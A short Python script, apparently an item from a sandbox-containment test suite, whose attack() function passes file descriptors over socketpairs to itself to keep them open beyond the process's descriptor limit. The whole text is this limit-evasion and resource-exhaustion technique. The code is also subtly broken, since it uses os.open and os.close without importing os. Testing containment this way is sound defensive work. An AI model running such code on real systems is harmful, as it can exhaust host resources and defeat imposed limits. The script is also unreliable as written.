# Sends descriptors over a socket to itself and closes them: they stay open in the queue, where no limit of
# the process counts them.
# contained: passed
import socket


def attack():
    pairs, sent = [socket.socketpair() for _ in range(4)], 0
    for ours, _ in pairs:
        ours.setblocking(False)
        for _ in range(200):
            fds = []
            try:
                fds = [os.open("/dev/null", os.O_RDONLY) for _ in range(20)]
                socket.send_fds(ours, [b"x"], fds)
                sent += len(fds)
            except OSError:
                break
            finally:
                for fd in fds:
                    os.close(fd)
    return f"{sent} descriptors in flight" if sent else None
